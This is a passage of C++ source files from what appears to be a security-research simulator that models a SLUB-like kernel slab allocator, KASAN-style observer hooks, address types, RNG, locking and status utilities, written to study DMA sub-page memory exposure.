  std::lock_guard<MaybeMutex> guard(mu_);
  const unsigned order = Log2Ceil(AlignUp(size, kPageSize) >> kPageShift);
  Result<Pfn> head = page_alloc_.AllocPages(order, mem::PageOwner::kAnon);
  if (!head.ok()) {
    return head.status();
  }
  const Kva kva = layout_.PhysToDirectMapKva(PhysAddr::FromPfn(*head));
  Status zero = pm_.Fill(PhysAddr::FromPfn(*head), uint64_t{1} << (order + kPageShift), 0);
  if (!zero.ok()) {
    // Zeroing failed: return the pages and surface the error instead of
    // recording a half-initialised allocation.
    (void)page_alloc_.FreePages(*head);
    return zero;
  }
  large_[head->value] = LargeAlloc{*head, size, order, std::string(site)};
  ++live_objects_;
  Notify(/*alloc=*/true, kva, size, site);
  return kva;
}

Result<Pfn> SlabAllocator::NewSlabPage(Cache& cache) {
  Result<Pfn> pfn = page_alloc_.AllocPage(mem::PageOwner::kSlab);
  if (!pfn.ok()) {
    return pfn.status();
  }
  page_db_.Get(*pfn).cache_id = cache.id;

  SlabPage page;
  page.pfn = *pfn;
  page.cache_id = cache.id;
  page.object_size = cache.object_size;
  page.capacity = cache.objects_per_page;
  page.occupied.assign(cache.objects_per_page, false);
  page.sites.assign(cache.objects_per_page, {});
  page.free_stack.reserve(cache.objects_per_page);
  // Push in reverse so the first pop yields slot 0 (SLUB fills ascending).
  for (uint32_t slot = cache.objects_per_page; slot > 0; --slot) {
    page.free_stack.push_back(static_cast<uint16_t>(slot - 1));
  }
  slab_pages_[pfn->value] = std::move(page);
  return *pfn;
}

Kva SlabAllocator::SlotKva(const SlabPage& page, uint32_t slot) const {
  return layout_.PhysToDirectMapKva(
      PhysAddr::FromPfn(page.pfn, uint64_t{slot} * page.object_size));
}

Status SlabAllocator::Kfree(Kva kva) {
  if (kva.is_null()) {
    return OkStatus();  // kfree(NULL) is a no-op, as in Linux
  }
  auto phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return InvalidArgument("kfree of non-direct-map KVA");
  }
  const Pfn pfn = phys->pfn();
  std::lock_guard<MaybeMutex> guard(mu_);

  // Large allocation?
  if (auto it = large_.find(pfn.value); it != large_.end()) {
    if (phys->page_offset() != 0) {
      return FailedPrecondition("kfree of interior pointer into large allocation");
    }
    const uint64_t size = it->second.size;
    SPV_RETURN_IF_ERROR(page_alloc_.FreePages(it->second.head));
    large_.erase(it);
    --live_objects_;
    Notify(/*alloc=*/false, kva, size, "");
    return OkStatus();
  }

  auto it = slab_pages_.find(pfn.value);
  if (it == slab_pages_.end()) {
    return FailedPrecondition("kfree of pointer not owned by slab");
  }
  SlabPage& page = it->second;
  const uint64_t offset = phys->page_offset();
  if (offset % page.object_size != 0) {
    return FailedPrecondition("kfree of misaligned object pointer");
  }
  const uint32_t slot = static_cast<uint32_t>(offset / page.object_size);
  if (!page.occupied[slot]) {
    return FailedPrecondition("double kfree");
  }
  page.occupied[slot] = false;
  page.sites[slot].clear();
  page.free_stack.push_back(static_cast<uint16_t>(slot));
  const uint32_t was_used = page.used--;
  --live_objects_;
  Notify(/*alloc=*/false, kva, page.object_size, "");

  Cache& cache = caches_[page.cache_id];
  if (was_used == page.capacity) {
    // Page had been full; it is partial again. MRU front for LIFO reuse.
    cache.partial.push_front(page.pfn);
  }
  if (page.used == 0) {
    // Empty slab: release the page back to the buddy allocator.
    cache.partial.erase(std::remove_if(cache.partial.begin(), cache.partial.end(),
                                       [&](Pfn p) { return p == page.pfn; }),
                        cache.partial.end());
    const Pfn page_pfn = page.pfn;
    slab_pages_.erase(it);
    SPV_RETURN_IF_ERROR(page_alloc_.FreePages(page_pfn));
  }
  return OkStatus();
}

std::optional<ObjectInfo> SlabAllocator::Lookup(Kva kva) const {
  auto phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return std::nullopt;
  }
  const Pfn pfn = phys->pfn();
  std::lock_guard<MaybeMutex> guard(mu_);

  if (auto it = slab_pages_.find(pfn.value); it != slab_pages_.end()) {
    const SlabPage& page = it->second;
    const uint32_t slot = static_cast<uint32_t>(phys->page_offset() / page.object_size);
    if (slot < page.capacity && page.occupied[slot]) {
      return ObjectInfo{SlotKva(page, slot), page.object_size, page.cache_id, page.sites[slot]};
    }
    return std::nullopt;
  }

  // Interior of a large allocation: scan heads covering this pfn.
  for (const auto& [head, alloc] : large_) {
    if (pfn.value >= head && pfn.value < head + (uint64_t{1} << alloc.order)) {
      const Kva base = layout_.PhysToDirectMapKva(PhysAddr::FromPfn(alloc.head));
      if (kva - base < alloc.size) {
        return ObjectInfo{base, alloc.size, kLargeCacheId, alloc.site};
      }
      return std::nullopt;
    }
  }
  return std::nullopt;
}

std::vector<ObjectInfo> SlabAllocator::ObjectsOnPage(Pfn pfn) const {
  std::lock_guard<MaybeMutex> guard(mu_);
  std::vector<ObjectInfo> out;
  if (auto it = slab_pages_.find(pfn.value); it != slab_pages_.end()) {
    const SlabPage& page = it->second;
    for (uint32_t slot = 0; slot < page.capacity; ++slot) {
      if (page.occupied[slot]) {
        out.push_back(
            ObjectInfo{SlotKva(page, slot), page.object_size, page.cache_id, page.sites[slot]});
      }
    }
    return out;
  }
  for (const auto& [head, alloc] : large_) {
    if (pfn.value >= head && pfn.value < head + (uint64_t{1} << alloc.order)) {
      const Kva base = layout_.PhysToDirectMapKva(PhysAddr::FromPfn(alloc.head));
      out.push_back(ObjectInfo{base, alloc.size, kLargeCacheId, alloc.site});
      return out;
    }
  }
  return out;
}

telemetry::Hub& SlabAllocator::telemetry() {
  if (hub_ == nullptr) {
    owned_hub_ = std::make_unique<telemetry::Hub>();
    hub_ = owned_hub_.get();
  }
  return *hub_;
}

void SlabAllocator::AddObserver(SlabObserver* observer) {
  observer_sinks_.push_back(std::make_unique<SlabObserverSink>(this, observer));
  telemetry().AddSink(observer_sinks_.back().get());
}

void SlabAllocator::RemoveObserver(SlabObserver* observer) {
  for (auto it = observer_sinks_.begin(); it != observer_sinks_.end();) {
    if ((*it)->observer() == observer) {
      telemetry().RemoveSink(it->get());
      it = observer_sinks_.erase(it);
    } else {
      ++it;
    }
  }
}

void SlabAllocator::Notify(bool alloc, Kva kva, uint64_t size, std::string_view site) {
  telemetry::Hub& hub = telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = alloc ? telemetry::EventKind::kSlabAlloc : telemetry::EventKind::kSlabFree;
  event.severity = telemetry::Severity::kTrace;
  event.addr = kva.value;
  event.len = size;
  event.origin = this;
  event.site = std::string(site);
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter(alloc ? "slab.allocs" : "slab.frees").Add();
    if (alloc) {
      hub.histogram("slab.alloc_bytes").Record(size);
    }
  }
}

}  // namespace spv::slab
