// Observer hooks for allocator events.
//
// This is the simulator's stand-in for KASAN's compile-time instrumentation:
// D-KASAN registers an observer here and at the DMA API to see every
// (allocate, free) event with its call site, exactly the information the real
// tool gets from __kasan_kmalloc hooks.

#ifndef SPV_SLAB_OBSERVER_H_
#define SPV_SLAB_OBSERVER_H_

#include <cstdint>
#include <string_view>

#include "base/types.h"

namespace spv::slab {

class SlabObserver {
 public:
  virtual ~SlabObserver() = default;

  // `site` is the allocating location (function+offset), as KASAN would
  // recover from the return address.
  virtual void OnAlloc(Kva kva, uint64_t size, std::string_view site) = 0;
  virtual void OnFree(Kva kva, uint64_t size) = 0;
};

}  // namespace spv::slab

#endif  // SPV_SLAB_OBSERVER_H_
