// Observer hooks for allocator events.
//
// This is the simulator's stand-in for KASAN's compile-time instrumentation:
// D-KASAN registers an observer here and at the DMA API to see every
// (allocate, free) event with its call site, exactly the information the real
// tool gets from __kasan_kmalloc hooks.
//
// Dispatch rides the telemetry bus: SlabAllocator publishes kSlabAlloc /
// kSlabFree (and PageFragPool kFragAlloc / kFragFree) events to its
// telemetry::Hub, and each registered SlabObserver is wrapped in a
// SlabObserverSink that decodes those events back into the typed interface —
// the same fan-out path the trace ring records.

#ifndef SPV_SLAB_OBSERVER_H_
#define SPV_SLAB_OBSERVER_H_

#include <cstdint>
#include <string_view>

#include "base/types.h"
#include "telemetry/telemetry.h"

namespace spv::slab {

class SlabObserver {
 public:
  virtual ~SlabObserver() = default;

  // `site` is the allocating location (function+offset), as KASAN would
  // recover from the return address.
  virtual void OnAlloc(Kva kva, uint64_t size, std::string_view site) = 0;
  virtual void OnFree(Kva kva, uint64_t size) = 0;
};

// Bridges bus events published by one allocator (`origin` — a SlabAllocator
// or one specific PageFragPool) back into the typed SlabObserver interface.
// Origin filtering keeps per-pool attachment semantics on a shared Hub.
class SlabObserverSink : public telemetry::EventSink {
 public:
  SlabObserverSink(const void* origin, SlabObserver* observer)
      : origin_(origin), observer_(observer) {}

  SlabObserver* observer() const { return observer_; }

  void OnEvent(const telemetry::Event& event) override {
    if (event.origin != origin_) {
      return;
    }
    switch (event.kind) {
      case telemetry::EventKind::kSlabAlloc:
      case telemetry::EventKind::kFragAlloc:
        observer_->OnAlloc(Kva{event.addr}, event.len, event.site);
        break;
      case telemetry::EventKind::kSlabFree:
      case telemetry::EventKind::kFragFree:
        observer_->OnFree(Kva{event.addr}, event.len);
        break;
      default:
        break;
    }
  }

 private:
  const void* origin_;
  SlabObserver* observer_;
};

}  // namespace spv::slab

#endif  // SPV_SLAB_OBSERVER_H_
