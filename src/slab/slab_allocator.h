// SLUB-like kmalloc allocator over simulated physical memory.
//
// The property that matters for the paper is co-location: objects of the same
// size class share 4 KiB pages (type (b)/(d) sub-page vulnerabilities, §3.2).
// Linux uses *the same* kmalloc caches for I/O buffers and for sensitive
// kernel objects, so a DMA-mapped kmalloc buffer exposes its page-mates. The
// allocator reproduces SLUB's placement behaviour: size-class caches,
// per-page object slots, LIFO slot reuse, new slab pages from the buddy
// allocator.

#ifndef SPV_SLAB_SLAB_ALLOCATOR_H_
#define SPV_SLAB_SLAB_ALLOCATOR_H_

#include <array>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "base/maybe_mutex.h"
#include "base/stat_counter.h"
#include "base/status.h"
#include "base/types.h"
#include "mem/kernel_layout.h"
#include "mem/page_allocator.h"
#include "mem/page_db.h"
#include "mem/phys_memory.h"
#include "slab/observer.h"
#include "telemetry/telemetry.h"

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::slab {

// Linux kmalloc size classes up to one page.
inline constexpr std::array<uint32_t, 12> kKmallocSizeClasses = {
    8, 16, 32, 64, 96, 128, 192, 256, 512, 1024, 2048, 4096};

struct ObjectInfo {
  Kva kva;            // object base
  uint64_t size;      // size-class size (>= requested size)
  uint16_t cache_id;  // index into kKmallocSizeClasses, or 0xffff for large
  std::string site;   // allocating location
};

class SlabAllocator {
 public:
  // When `hub` is null a private (disabled) Hub is lazily owned so observer
  // dispatch always rides one bus; core::Machine injects its shared Hub.
  SlabAllocator(mem::PhysicalMemory& pm, mem::PageDb& page_db, mem::PageAllocator& page_alloc,
                const mem::KernelLayout& layout, telemetry::Hub* hub = nullptr);

  SlabAllocator(const SlabAllocator&) = delete;
  SlabAllocator& operator=(const SlabAllocator&) = delete;

  // Allocates `size` bytes; returns the direct-map KVA of the object. Sizes
  // above one page fall through to the buddy allocator (like kmalloc_large).
  // Memory is zeroed (kzalloc semantics keep tests deterministic).
  Result<Kva> Kmalloc(uint64_t size, std::string_view site = "unknown");

  Status Kfree(Kva kva);

  // Finds the live object containing `kva` (not necessarily its base).
  std::optional<ObjectInfo> Lookup(Kva kva) const;

  // All live objects on a physical page, in address order. This is the
  // ground-truth view D-KASAN and the attack analyses use to enumerate what
  // a DMA mapping actually exposes.
  std::vector<ObjectInfo> ObjectsOnPage(Pfn pfn) const;

  // Observers are bridged onto the telemetry bus (one SlabObserverSink each);
  // the interface is unchanged for callers.
  void AddObserver(SlabObserver* observer);
  void RemoveObserver(SlabObserver* observer);

  // The bus every slab event is published to.
  telemetry::Hub& telemetry();

  // The size class an allocation of `size` lands in, or nullopt if large.
  static std::optional<uint16_t> SizeClassIndex(uint64_t size);

  uint64_t live_objects() const { return live_objects_; }

  // Optional fault hook (kSlabAlloc): nullptr detaches.
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }

  // Engages the cache lock for ExecMode::kThreads (one-way). Like SLUB's
  // list_lock it covers every cache and slab page; the kmalloc path in this
  // simulator is cold enough that one lock beats per-cache locks.
  void EngageLock() { mu_.Engage(); }

 private:
  struct SlabPage {
    Pfn pfn;
    uint16_t cache_id = 0;
    uint32_t object_size = 0;
    uint32_t capacity = 0;
    uint32_t used = 0;
    std::vector<bool> occupied;          // slot -> live?
    std::vector<uint16_t> free_stack;    // LIFO of free slots
    std::vector<std::string> sites;      // slot -> allocating site
  };

  struct LargeAlloc {
    Pfn head;
    uint64_t size;
    unsigned order;
    std::string site;
  };

  struct Cache {
    uint16_t id = 0;
    uint32_t object_size = 0;
    uint32_t objects_per_page = 0;
    std::deque<Pfn> partial;  // pages with at least one free slot (MRU front)
  };

  Result<Kva> KmallocLarge(uint64_t size, std::string_view site);
  Result<Pfn> NewSlabPage(Cache& cache);
  Kva SlotKva(const SlabPage& page, uint32_t slot) const;
  void Notify(bool alloc, Kva kva, uint64_t size, std::string_view site);

  mem::PhysicalMemory& pm_;
  mem::PageDb& page_db_;
  mem::PageAllocator& page_alloc_;
  const mem::KernelLayout& layout_;

  mutable MaybeMutex mu_;  // guards caches_/slab_pages_/large_ when engaged
  std::array<Cache, kKmallocSizeClasses.size()> caches_;
  std::unordered_map<uint64_t, SlabPage> slab_pages_;   // pfn -> slab page
  std::unordered_map<uint64_t, LargeAlloc> large_;      // head pfn -> large alloc
  telemetry::Hub* hub_;
  std::unique_ptr<telemetry::Hub> owned_hub_;  // fallback when none injected
  std::vector<std::unique_ptr<SlabObserverSink>> observer_sinks_;
  StatCounter live_objects_;
  fault::FaultEngine* fault_ = nullptr;
};

}  // namespace spv::slab

#endif  // SPV_SLAB_SLAB_ALLOCATOR_H_
