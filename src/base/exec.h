// Execution modes and the ambient simulated-CPU context.
//
// The machine runs in one of two modes:
//   * kSequential — one host thread advances every sim CPU in a seeded
//     round-robin. Fully deterministic: same seed, byte-identical output.
//     This is the mode every test, attack replay and committed baseline runs
//     in.
//   * kThreads — N host worker threads, each owning one sim CPU (and that
//     CPU's NIC queue pair, flush-queue shard, IOVA magazines and frag pool).
//     Used for wall-clock throughput runs and for surfacing real cross-CPU
//     interleavings under TSan. Not byte-deterministic.
//
// The "current CPU" is ambient state (like preemption context in the
// kernel): thread-local, so in kThreads mode each worker carries its own CPU
// identity with no plumbing, and in kSequential mode set_current_cpu behaves
// exactly as the old per-machine member did.

#ifndef SPV_BASE_EXEC_H_
#define SPV_BASE_EXEC_H_

#include <cstdint>
#include <string_view>

#include "base/types.h"

namespace spv {

enum class ExecMode : uint8_t {
  kSequential,  // one thread, seeded round-robin over sim CPUs (deterministic)
  kThreads,     // one host worker thread per sim CPU (wall-clock / TSan runs)
};

inline std::string_view ExecModeName(ExecMode mode) {
  return mode == ExecMode::kSequential ? "sequential" : "threads";
}

namespace internal {
inline thread_local uint32_t tls_current_cpu = 0;
}  // namespace internal

// The sim CPU the calling host thread currently executes kernel code on.
inline CpuId CurrentCpu() { return CpuId{internal::tls_current_cpu}; }
inline void SetCurrentCpu(CpuId cpu) { internal::tls_current_cpu = cpu.value; }

}  // namespace spv

#endif  // SPV_BASE_EXEC_H_
