// Alignment and bit-manipulation helpers.

#ifndef SPV_BASE_ALIGN_H_
#define SPV_BASE_ALIGN_H_

#include <bit>
#include <cstdint>

namespace spv {

constexpr bool IsPowerOfTwo(uint64_t x) { return x != 0 && (x & (x - 1)) == 0; }

constexpr uint64_t AlignDown(uint64_t value, uint64_t alignment) {
  return value & ~(alignment - 1);
}

constexpr uint64_t AlignUp(uint64_t value, uint64_t alignment) {
  return AlignDown(value + alignment - 1, alignment);
}

constexpr bool IsAligned(uint64_t value, uint64_t alignment) {
  return (value & (alignment - 1)) == 0;
}

// Smallest power of two >= value (value must be nonzero and <= 2^63).
constexpr uint64_t RoundUpPowerOfTwo(uint64_t value) { return std::bit_ceil(value); }

constexpr unsigned Log2Floor(uint64_t value) {
  return 63u - static_cast<unsigned>(std::countl_zero(value | 1));
}

constexpr unsigned Log2Ceil(uint64_t value) {
  return value <= 1 ? 0 : Log2Floor(value - 1) + 1;
}

}  // namespace spv

#endif  // SPV_BASE_ALIGN_H_
