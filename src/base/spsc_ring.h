// Bounded wait-free single-producer / single-consumer ring.
//
// The kThreads telemetry path: each sim CPU (producer) pushes Events into its
// own SpscRing; one drainer thread (consumer) merges all rings into the Hub's
// sequential dispatch. Push and pop are one load + one store each with
// acquire/release pairing on the opposing index — no locks, no CAS loops, so
// the hot path stays wait-free. A full ring fails the push (the caller
// accounts the drop); it never blocks and never overwrites.

#ifndef SPV_BASE_SPSC_RING_H_
#define SPV_BASE_SPSC_RING_H_

#include <atomic>
#include <cstdint>
#include <utility>
#include <vector>

namespace spv {

template <typename T>
class SpscRing {
 public:
  // `capacity` is rounded up to a power of two (index masking on the ring).
  explicit SpscRing(size_t capacity) {
    size_t cap = 1;
    while (cap < capacity) {
      cap <<= 1;
    }
    slots_.resize(cap);
    mask_ = cap - 1;
  }

  SpscRing(const SpscRing&) = delete;
  SpscRing& operator=(const SpscRing&) = delete;

  // Producer side. Returns false (and leaves `v` untouched) when full.
  bool TryPush(T&& v) {
    const uint64_t tail = tail_.load(std::memory_order_relaxed);
    if (tail - head_.load(std::memory_order_acquire) > mask_) {
      return false;
    }
    slots_[tail & mask_] = std::move(v);
    tail_.store(tail + 1, std::memory_order_release);
    return true;
  }

  // Consumer side. Returns false when empty.
  bool TryPop(T* out) {
    const uint64_t head = head_.load(std::memory_order_relaxed);
    if (tail_.load(std::memory_order_acquire) == head) {
      return false;
    }
    *out = std::move(slots_[head & mask_]);
    head_.store(head + 1, std::memory_order_release);
    return true;
  }

  size_t capacity() const { return mask_ + 1; }

 private:
  std::vector<T> slots_;
  size_t mask_ = 0;
  alignas(64) std::atomic<uint64_t> head_{0};  // consumer cursor
  alignas(64) std::atomic<uint64_t> tail_{0};  // producer cursor
};

}  // namespace spv

#endif  // SPV_BASE_SPSC_RING_H_
