// Mutexes that engage only in ExecMode::kThreads.
//
// Shared structures (flush-queue shards, the IOTLB, page tables, the mapping
// index, allocator free lists) need real locks when worker threads contend on
// them, but the deterministic sequential mode — where every test and every
// committed baseline runs — is single-threaded by construction and must not
// pay for or depend on locking. A MaybeMutex is disengaged (a branch, no
// atomic) until Engage() is called at machine bring-up in kThreads mode.
// Engage() must happen before any concurrent use; it is never legal to
// engage or disengage while other threads are running.

#ifndef SPV_BASE_MAYBE_MUTEX_H_
#define SPV_BASE_MAYBE_MUTEX_H_

#include <mutex>
#include <shared_mutex>

namespace spv {

class MaybeMutex {
 public:
  void Engage() { engaged_ = true; }
  bool engaged() const { return engaged_; }

  void lock() {
    if (engaged_) {
      mu_.lock();
    }
  }
  void unlock() {
    if (engaged_) {
      mu_.unlock();
    }
  }
  bool try_lock() { return engaged_ ? mu_.try_lock() : true; }

 private:
  bool engaged_ = false;
  std::mutex mu_;
};

class MaybeSharedMutex {
 public:
  void Engage() { engaged_ = true; }
  bool engaged() const { return engaged_; }

  void lock() {
    if (engaged_) {
      mu_.lock();
    }
  }
  void unlock() {
    if (engaged_) {
      mu_.unlock();
    }
  }
  void lock_shared() {
    if (engaged_) {
      mu_.lock_shared();
    }
  }
  void unlock_shared() {
    if (engaged_) {
      mu_.unlock_shared();
    }
  }

 private:
  bool engaged_ = false;
  std::shared_mutex mu_;
};

}  // namespace spv

#endif  // SPV_BASE_MAYBE_MUTEX_H_
