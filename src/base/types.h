// Core strong types shared by every spv module.
//
// The simulator juggles three distinct address spaces (§2.4 of the paper):
//   * physical addresses / page frame numbers (PFN),
//   * kernel virtual addresses (KVA) within the randomized kernel layout,
//   * I/O virtual addresses (IOVA) as seen by DMA devices through the IOMMU.
// Mixing them up is exactly the class of bug the paper exploits, so each gets
// a distinct wrapper type with no implicit conversions between them.

#ifndef SPV_BASE_TYPES_H_
#define SPV_BASE_TYPES_H_

#include <compare>
#include <cstddef>
#include <cstdint>
#include <functional>

namespace spv {

inline constexpr uint64_t kPageShift = 12;
inline constexpr uint64_t kPageSize = uint64_t{1} << kPageShift;  // 4 KiB
inline constexpr uint64_t kPageMask = kPageSize - 1;

// Page frame number: index of a 4 KiB physical page.
struct Pfn {
  uint64_t value = 0;

  constexpr Pfn() = default;
  constexpr explicit Pfn(uint64_t v) : value(v) {}

  constexpr uint64_t PhysBase() const { return value << kPageShift; }
  constexpr auto operator<=>(const Pfn&) const = default;
};

// Physical address: byte address into simulated physical memory.
struct PhysAddr {
  uint64_t value = 0;

  constexpr PhysAddr() = default;
  constexpr explicit PhysAddr(uint64_t v) : value(v) {}
  constexpr static PhysAddr FromPfn(Pfn pfn, uint64_t offset = 0) {
    return PhysAddr{(pfn.value << kPageShift) | (offset & kPageMask)};
  }

  constexpr Pfn pfn() const { return Pfn{value >> kPageShift}; }
  constexpr uint64_t page_offset() const { return value & kPageMask; }
  constexpr auto operator<=>(const PhysAddr&) const = default;
};

// Kernel virtual address. Only meaningful relative to a KernelLayout.
struct Kva {
  uint64_t value = 0;

  constexpr Kva() = default;
  constexpr explicit Kva(uint64_t v) : value(v) {}

  constexpr bool is_null() const { return value == 0; }
  constexpr uint64_t page_offset() const { return value & kPageMask; }
  constexpr Kva PageBase() const { return Kva{value & ~kPageMask}; }
  constexpr auto operator<=>(const Kva&) const = default;
};

// I/O virtual address handed to a device by the DMA API.
struct Iova {
  uint64_t value = 0;

  constexpr Iova() = default;
  constexpr explicit Iova(uint64_t v) : value(v) {}

  constexpr bool is_null() const { return value == 0; }
  constexpr uint64_t page_offset() const { return value & kPageMask; }
  constexpr Iova PageBase() const { return Iova{value & ~kPageMask}; }
  constexpr auto operator<=>(const Iova&) const = default;
};

constexpr Kva operator+(Kva a, uint64_t off) { return Kva{a.value + off}; }
constexpr Kva operator-(Kva a, uint64_t off) { return Kva{a.value - off}; }
constexpr uint64_t operator-(Kva a, Kva b) { return a.value - b.value; }
constexpr Iova operator+(Iova a, uint64_t off) { return Iova{a.value + off}; }
constexpr Iova operator-(Iova a, uint64_t off) { return Iova{a.value - off}; }
constexpr uint64_t operator-(Iova a, Iova b) { return a.value - b.value; }
constexpr PhysAddr operator+(PhysAddr a, uint64_t off) { return PhysAddr{a.value + off}; }

// Identifies a DMA-capable device attached to the simulated machine. The
// IOMMU keeps one I/O page table per DeviceId (as Intel VT-d does per
// requester-id).
struct DeviceId {
  uint32_t value = 0;

  constexpr DeviceId() = default;
  constexpr explicit DeviceId(uint32_t v) : value(v) {}
  constexpr auto operator<=>(const DeviceId&) const = default;
};

// Simulated CPU identifier; page_frag pools and RX rings are per-CPU (§5.2.2).
struct CpuId {
  uint32_t value = 0;

  constexpr CpuId() = default;
  constexpr explicit CpuId(uint32_t v) : value(v) {}
  constexpr auto operator<=>(const CpuId&) const = default;
};

}  // namespace spv

template <>
struct std::hash<spv::Pfn> {
  size_t operator()(const spv::Pfn& p) const noexcept { return std::hash<uint64_t>{}(p.value); }
};
template <>
struct std::hash<spv::Kva> {
  size_t operator()(const spv::Kva& k) const noexcept { return std::hash<uint64_t>{}(k.value); }
};
template <>
struct std::hash<spv::Iova> {
  size_t operator()(const spv::Iova& i) const noexcept { return std::hash<uint64_t>{}(i.value); }
};
template <>
struct std::hash<spv::DeviceId> {
  size_t operator()(const spv::DeviceId& d) const noexcept {
    return std::hash<uint32_t>{}(d.value);
  }
};

#endif  // SPV_BASE_TYPES_H_
