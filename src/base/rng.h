// Deterministic pseudo-random number generators.
//
// All simulator randomness (KASLR offsets, boot-schedule jitter, workload
// arrival processes) flows from explicitly seeded generators so that every
// test and benchmark run is reproducible. We deliberately avoid <random>'s
// distribution objects in hot paths; the helpers below are branch-light and
// well-defined across platforms.

#ifndef SPV_BASE_RNG_H_
#define SPV_BASE_RNG_H_

#include <array>
#include <cstdint>

namespace spv {

// SplitMix64: used for seeding and cheap one-shot mixing.
class SplitMix64 {
 public:
  constexpr explicit SplitMix64(uint64_t seed) : state_(seed) {}

  constexpr uint64_t Next() {
    state_ += 0x9e3779b97f4a7c15ULL;
    uint64_t z = state_;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
  }

 private:
  uint64_t state_;
};

// xoshiro256**: main generator. Fast, high quality, tiny state.
class Xoshiro256 {
 public:
  explicit Xoshiro256(uint64_t seed) {
    SplitMix64 sm{seed};
    for (auto& s : state_) {
      s = sm.Next();
    }
  }

  uint64_t Next() {
    const uint64_t result = Rotl(state_[1] * 5, 7) * 9;
    const uint64_t t = state_[1] << 17;
    state_[2] ^= state_[0];
    state_[3] ^= state_[1];
    state_[1] ^= state_[2];
    state_[0] ^= state_[3];
    state_[2] ^= t;
    state_[3] = Rotl(state_[3], 45);
    return result;
  }

  // Uniform in [0, bound). Lemire's multiply-shift rejection method.
  uint64_t NextBelow(uint64_t bound) {
    if (bound == 0) {
      return 0;
    }
    unsigned __int128 m = static_cast<unsigned __int128>(Next()) * bound;
    uint64_t lo = static_cast<uint64_t>(m);
    if (lo < bound) {
      uint64_t threshold = -bound % bound;
      while (lo < threshold) {
        m = static_cast<unsigned __int128>(Next()) * bound;
        lo = static_cast<uint64_t>(m);
      }
    }
    return static_cast<uint64_t>(m >> 64);
  }

  // Uniform in [lo, hi] inclusive.
  uint64_t NextInRange(uint64_t lo, uint64_t hi) { return lo + NextBelow(hi - lo + 1); }

  // Uniform double in [0, 1).
  double NextDouble() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }

  bool NextBool(double p_true) { return NextDouble() < p_true; }

 private:
  static constexpr uint64_t Rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

  std::array<uint64_t, 4> state_{};
};

}  // namespace spv

#endif  // SPV_BASE_RNG_H_
