#include "base/status.h"

namespace spv {

std::string_view StatusCodeName(StatusCode code) {
  switch (code) {
    case StatusCode::kOk:
      return "OK";
    case StatusCode::kInvalidArgument:
      return "INVALID_ARGUMENT";
    case StatusCode::kNotFound:
      return "NOT_FOUND";
    case StatusCode::kAlreadyExists:
      return "ALREADY_EXISTS";
    case StatusCode::kPermissionDenied:
      return "PERMISSION_DENIED";
    case StatusCode::kResourceExhausted:
      return "RESOURCE_EXHAUSTED";
    case StatusCode::kFailedPrecondition:
      return "FAILED_PRECONDITION";
    case StatusCode::kOutOfRange:
      return "OUT_OF_RANGE";
    case StatusCode::kUnavailable:
      return "UNAVAILABLE";
    case StatusCode::kInternal:
      return "INTERNAL";
    case StatusCode::kRevoked:
      return "REVOKED";
  }
  return "UNKNOWN";
}

std::string Status::ToString() const {
  if (ok()) {
    return "OK";
  }
  std::string out{StatusCodeName(code_)};
  if (!message_.empty()) {
    out += ": ";
    out += message_;
  }
  return out;
}

}  // namespace spv
