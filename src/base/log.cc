#include "base/log.h"

#include <cstdio>

namespace spv {
namespace {

LogLevel g_min_level = LogLevel::kWarning;

const char* LevelTag(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug:
      return "D";
    case LogLevel::kInfo:
      return "I";
    case LogLevel::kWarning:
      return "W";
    case LogLevel::kError:
      return "E";
  }
  return "?";
}

}  // namespace

LogLevel GetLogLevel() { return g_min_level; }

void SetLogLevel(LogLevel level) { g_min_level = level; }

void LogMessage(LogLevel level, const std::string& message) {
  if (level < g_min_level) {
    return;
  }
  std::fprintf(stderr, "[spv:%s] %s\n", LevelTag(level), message.c_str());
}

}  // namespace spv
