// A statistics counter that is safe to bump from concurrent sim CPUs.
//
// Every Stats struct in the simulator (Iommu::Stats, IovaAllocator::Stats,
// ...) is written on hot paths that kThreads mode runs from several worker
// threads at once. StatCounter is a relaxed std::atomic<uint64_t> that still
// reads like a plain integer at every existing call site: implicit
// conversion on read, ++/+= on write. Relaxed ordering is sufficient —
// counters are statistics, never synchronization — and costs one locked add,
// which does not perturb the simulated-cycle cost model (the logical clock
// only advances where components advance it explicitly).

#ifndef SPV_BASE_STAT_COUNTER_H_
#define SPV_BASE_STAT_COUNTER_H_

#include <atomic>
#include <cstdint>

namespace spv {

class StatCounter {
 public:
  StatCounter() = default;
  StatCounter(uint64_t v) : v_(v) {}  // NOLINT(google-explicit-constructor)
  StatCounter(const StatCounter& other) : v_(other.load()) {}
  StatCounter& operator=(const StatCounter& other) {
    v_.store(other.load(), std::memory_order_relaxed);
    return *this;
  }
  StatCounter& operator=(uint64_t v) {
    v_.store(v, std::memory_order_relaxed);
    return *this;
  }

  operator uint64_t() const { return load(); }  // NOLINT(google-explicit-constructor)
  uint64_t load() const { return v_.load(std::memory_order_relaxed); }

  StatCounter& operator++() {
    v_.fetch_add(1, std::memory_order_relaxed);
    return *this;
  }
  uint64_t operator++(int) { return v_.fetch_add(1, std::memory_order_relaxed); }
  StatCounter& operator--() {
    v_.fetch_sub(1, std::memory_order_relaxed);
    return *this;
  }
  uint64_t operator--(int) { return v_.fetch_sub(1, std::memory_order_relaxed); }
  StatCounter& operator+=(uint64_t n) {
    v_.fetch_add(n, std::memory_order_relaxed);
    return *this;
  }
  StatCounter& operator-=(uint64_t n) {
    v_.fetch_sub(n, std::memory_order_relaxed);
    return *this;
  }

 private:
  std::atomic<uint64_t> v_{0};
};

}  // namespace spv

#endif  // SPV_BASE_STAT_COUNTER_H_
