// Minimal Status / Result types (absl-style, no exceptions on hot paths).

#ifndef SPV_BASE_STATUS_H_
#define SPV_BASE_STATUS_H_

#include <cassert>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <variant>

